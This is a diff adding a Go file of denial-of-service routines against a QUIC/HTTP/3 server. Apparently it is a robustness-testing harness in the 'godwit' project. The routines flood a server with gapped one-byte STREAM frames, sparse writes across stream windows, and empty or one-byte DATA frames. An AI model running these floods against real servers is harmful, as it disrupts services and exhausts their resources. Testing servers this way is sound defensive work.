@@ -1,0 +1,115 @@
+package attack
+
+import (
+	"github.com/godwit-quic/godwit/internal/h3"
+	"github.com/godwit-quic/godwit/internal/wire"
+)
+
+var streamRows = []Row{
+	{Name: "stream-gaps", Class: "Reassembly gaps", run: streamGaps,
+		Does: "sends one-byte frames with a gap between any two on 256 streams"},
+	{Name: "stream-blocks", Class: "Reassembly gaps", run: streamBlocks,
+		Does: "sends one byte in each 4 KiB of every stream's window, on 10 connections"},
+	{Name: "tiny-data", Class: "frame flood", run: tinyData(false),
+		Does: "sends content in DATA frames of one byte"},
+	{Name: "empty-data", Class: "frame flood", run: tinyData(true),
+		Does: "sends DATA frames and unknown frames without a byte"},
+}
+
+func streamGaps(a *attacker) error {
+	c, err := a.dial(dialing{})
+	if err != nil {
+		return err
+	}
+	n := int(c.maxStreams[0])
+	a.begun()
+	i := 0
+	a.eachConn(50_000, []*conn{c}, func(c *conn) bool {
+		b := c.payload[:0]
+		for ; len(b) < maxPayload-16; i++ {
+			id := wire.NewStreamID(wire.ClientSide, false, uint64(i%n))
+			b = wire.AppendStream(b, wire.Stream{ID: id, Offset: uint64(i/n*2+1) % 200_000, Data: []byte("x")})
+		}
+		c.payload = b
+		c.send(b)
+		return true
+	})
+	a.notef("%d streams; %s", n, ends([]*conn{c}))
+	return nil
+}
+
+func streamBlocks(a *attacker) error {
+	conns, err := a.dialMany(10, dialing{})
+	if err != nil {
+		return err
+	}
+	a.begun()
+	const block = 4 << 10
+	i := 0
+	a.eachConn(20_000, conns, func(c *conn) bool {
+		b := c.payload[:0]
+		window := int(c.peer.InitialMaxStreamDataBidiRemote)
+		used := int(c.sentData) // the sum of all streams' highest offsets
+		for len(b) < maxPayload-16 {
+			seq, off := i%int(c.maxStreams[0]), i/int(c.maxStreams[0])*block+1
+			if off >= window || used+block > int(c.maxData) {
+				break
+			}
+			used += block
+			b = wire.AppendStream(b, wire.Stream{ID: wire.NewStreamID(wire.ClientSide, false, uint64(seq)), Offset: uint64(off), Data: []byte("x")})
+			i++
+		}
+		c.sentData = uint64(used)
+		if len(b) == 0 {
+			b = wire.AppendPing(b)
+		}
+		c.payload = b
+		c.send(b)
+		return true
+	})
+	a.notef("%s", ends(conns))
+	return nil
+}
+
+// tinyData sends content that is nearly all frame headers.
+func tinyData(empty bool) func(a *attacker) error {
+	return func(a *attacker) error {
+		c, err := a.dial(dialing{})
+		if err != nil {
+			return err
+		}
+		var content []byte
+		for len(content) < maxPayload-streamHeader-4 {
+			if empty {
+				content = append(content, frame(h3.FrameData, nil)...)
+				content = append(content, frame(0x21, nil)...) // reserved, to be ignored (RFC 9114, Section 7.2.8)
+			} else {
+				content = append(content, frame(h3.FrameData, []byte("x"))...)
+			}
+		}
+		a.begun()
+		c.window = 512
+		var s *stream
+		packets := 0
+		a.eachConn(50_000, []*conn{c}, func(c *conn) bool {
+			if s == nil || s.off+2*maxPayload > c.peer.InitialMaxStreamDataBidiRemote {
+				if s != nil {
+					s.write(nil, true)
+				}
+				next, ok := c.open(false)
+				if !ok {
+					return true // until the server allows another
+				}
+				s = next
+				s.write(postRequest("/digest"), false)
+			}
+			if c.sentData+maxPayload < c.maxData {
+				s.write(content, false)
+				packets++
+			}
+			return true
+		})
+		a.notef("%d packets; %s", packets, ends([]*conn{c}))
+		return nil
+	}
+}
